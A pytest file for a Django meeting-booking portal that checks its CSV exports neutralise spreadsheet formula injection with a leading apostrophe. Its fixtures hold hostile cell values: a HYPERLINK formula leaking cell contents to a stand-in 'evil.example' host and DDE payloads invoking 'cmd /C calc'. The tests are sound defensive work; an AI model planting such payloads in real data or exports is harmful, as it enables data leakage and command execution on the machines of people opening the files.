"""Spreadsheet formulas never leave the portal live (issue 14, hole 8).

A purpose typed into the booking form, or a name that arrives through the organisation import, can start with
``=``, ``+``, ``-`` or ``@``: Excel and LibreOffice would run it as a formula when the secretariat opens the export
(``=HYPERLINK(…)`` sends the reader to any site). Every cell of every CSV export is neutralised with a leading
apostrophe, shown as typed and never run.
"""

import csv
import io

import pytest
from django.urls import reverse

from core.exports import FORMULA_START, csv_response, neutralise
from meetings.imports import organisation_import
from meetings.models import User
from tests import factories
from tests.meetings.visits.conftest import book

from .figures import record

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1;"Klik")',
    "+45 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HOSTILE_PURPOSE = '=HYPERLINK("https://evil.example";"Se besøget")'


def _rows(response) -> list[list[str]]:
    content = response.content.decode("utf-8")
    assert content.startswith("\ufeff")  # UTF-8 with a byte-order mark, for Danish Excel
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def _assert_inert(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a cell a spreadsheet would run: {cell!r}"


@pytest.fixture
def hostile_visit(cast):
    """Politicians imported with names a spreadsheet would run, and a visit one of them booked with such a purpose."""
    people = "email,full_name,role,committee,committee_role,workplace\n" + "".join(
        f'formel{n}@dalby.example,"{name.replace(chr(34), chr(34) * 2)}",politician,boern-og-unge,member,\n'
        for n, name in enumerate(HOSTILE_NAMES)
    )
    organisation_import(people=("people.csv", people.encode()), actor=cast.administrator)
    imported = list(User.objects.filter(email__startswith="formel").order_by("email"))
    assert [p.full_name for p in imported] == HOSTILE_NAMES  # the import accepts them: they are names
    slot = factories.VisitSlotFactory(workplace=cast.workplace, offer__created_by=cast.leader)
    visit = book(slot, imported[0], purpose=HOSTILE_PURPOSE)
    for person in imported[1:3]:
        book(slot, person)
    return visit


def test_the_visits_export_writes_hostile_purposes_and_names_as_inert_text(client_for, cast, hostile_visit):
    response = client_for(cast.administrator).get(reverse("meetings:visit-export"))
    rows = _rows(response)
    _assert_inert(rows)
    (row,) = [r for r in rows[1:] if r[0] == str(hostile_visit.pk)]
    assert row[-1] == "'" + HOSTILE_PURPOSE  # shown exactly as typed, behind the apostrophe
    assert row[-2] == "'" + HOSTILE_NAMES[0]
    assert {r[6] for r in rows[1:]} >= {"'" + name for name in HOSTILE_NAMES[:3]}  # "Booked by"
    record("exports", hostile_cells_neutralised=sum(cell.startswith("'") for r in rows for cell in r))


def test_the_admin_action_writes_the_same_inert_file_with_translated_headers(client_for, cast, hostile_visit):
    page = client_for(cast.administrator).get(reverse("meetings:visit-export"))
    action = client_for(cast.administrator).post(
        reverse("admin:meetings_visit_changelist"),
        {"action": "export_visits_csv", "_selected_action": [hostile_visit.pk]},
    )
    rows = _rows(action)
    _assert_inert(rows)
    assert (
        rows[0]
        == _rows(page)[0]
        == ["Besøg", "Arbejdsplads", "Starter", "Slutter", "Status", "Deltagere", "Booket af", "Formål"]
    )
    assert rows[1][-1] == "'" + HOSTILE_PURPOSE


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_character_that_starts_a_formula_is_neutralised(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_numbers_and_dates_are_written_as_they_are():
    assert neutralise("Børnehuset Solsikken") == "Børnehuset Solsikken"
    assert neutralise("Mål: 1+1") == "Mål: 1+1"
    assert neutralise(-5) == -5 and neutralise(3.5) == 3.5
    rows = _rows(csv_response("x.csv", ["a", "b"], [["=1", 7], [None, "ok"]]))
    assert rows == [["a", "b"], ["'=1", "7"], ["", "ok"]]
